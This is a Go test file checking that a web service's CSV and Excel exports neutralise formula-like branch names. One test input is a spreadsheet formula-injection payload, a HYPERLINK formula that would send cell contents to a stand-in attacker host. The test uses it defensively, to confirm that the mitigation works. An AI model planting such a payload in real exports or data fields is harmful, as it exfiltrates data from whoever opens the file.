package web

import (
	"net/http"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"weike/internal/db/dbtest"
	"weike/org"
)

// TestExportsNeutraliseFormulas: a branch named like a formula (starting
// with = + - @, a tab or a CR) goes out as text: in the CSV with a leading
// apostrophe, in the workbook as a string cell, never as a formula.
func TestExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t, dbtest.SQLite(t))
	// Names are trimmed when saved, so a leading tab or CR cannot reach the
	// export through one; sheet's own test covers those two.
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"详情")`, "+1+1", "-2+3", "@SUM(A1:A9)"}
	off := e.W.A.Official
	for _, n := range names {
		if _, err := e.W.Org.CreateBranch(t.Context(), off, org.BranchInput{Name: n}); err != nil {
			t.Fatalf("%q: %v", n, err)
		}
	}
	csv := e.as("ch-official", http.MethodGet, "/api/v1/exports/coverage.csv?from=2026-12&to=2026-12", nil)
	if csv.Code != http.StatusOK {
		t.Fatalf("csv: %d %s", csv.Code, csv.Body)
	}
	rows := csvRows(t, csv)
	got := map[string]bool{}
	for _, r := range rows[1:] {
		got[r[1]] = true
	}
	for _, n := range names {
		if want := "'" + n; !got[want] {
			t.Errorf("CSV: %q not written as %q (names: %v)", n, want, got)
		}
	}
	xlsx := e.as("ch-official", http.MethodGet, "/api/v1/exports/coverage.xlsx?from=2026-12&to=2026-12", nil)
	if xlsx.Code != http.StatusOK {
		t.Fatalf("xlsx: %d", xlsx.Code)
	}
	f, err := excelize.OpenReader(strings.NewReader(xlsx.Body.String()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rowsX, err := f.GetRows("覆盖矩阵")
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for i, r := range rowsX {
		if len(r) < 2 || !strings.ContainsAny(r[1][:1], "=+-@") {
			continue
		}
		cell, _ := excelize.CoordinatesToCellName(2, i+1)
		if formula, _ := f.GetCellFormula("覆盖矩阵", cell); formula != "" {
			t.Errorf("workbook %s holds the formula %q", cell, formula)
		}
		if typ, _ := f.GetCellType("覆盖矩阵", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("workbook %s is of type %v, not a string", cell, typ)
		}
		seen++
	}
	if seen != len(names) {
		t.Errorf("the workbook has %d of the %d formula-like names", seen, len(names))
	}
}
